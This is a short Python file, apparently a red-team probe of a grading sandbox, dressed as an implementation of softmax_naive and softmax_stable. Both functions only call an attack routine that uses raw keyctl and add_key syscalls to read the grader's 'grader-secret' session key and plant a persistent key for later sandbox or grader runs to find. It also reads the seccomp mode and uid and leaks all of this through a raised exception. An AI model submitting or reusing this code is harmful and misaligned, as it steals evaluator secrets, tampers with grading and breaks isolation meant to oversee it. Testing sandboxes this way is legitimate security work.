"""Attack: the kernel keyrings cross the wall. Read the grader's session keys, plant a key under the
sandbox uid for a later sandbox (or grader run) to find, and report what worked."""
import ctypes
import os
import platform

KEYCTL, ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}.get(platform.machine(), (250, 248))
SESSION, USER = -3, -4
SEARCH, READ = 10, 11
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _call(*args):
    result = _libc.syscall(*args)
    return result if result >= 0 else f"errno{ctypes.get_errno()}"


def _search(ring, description):
    return _call(KEYCTL, SEARCH, ctypes.c_long(ring), b"user", description, 0)


def _read(key):
    if not isinstance(key, int):
        return key
    buf = ctypes.create_string_buffer(256)
    size = _call(KEYCTL, READ, key, buf, 256)
    return buf.raw[:size].decode(errors="replace") if isinstance(size, int) else size


def _attack():
    secret = _read(_search(SESSION, b"grader-secret"))
    earlier = _read(_search(USER, b"planted-by-sandbox"))
    planted = _call(ADD_KEY, b"user", b"planted-by-sandbox", b"from-an-earlier-sandbox", 23, ctypes.c_long(USER))
    with open("/proc/self/status") as fh:
        mode = [line.split()[1] for line in fh if line.startswith("Seccomp:")]
    raise RuntimeError(f"KEYS secret={secret} earlier={earlier} planted={isinstance(planted, int)} "
                       f"seccomp={mode[0] if mode else '?'} uid={os.getuid()}")


def softmax_naive(x, dim=-1):
    _attack()


def softmax_stable(x, dim=-1):
    _attack()
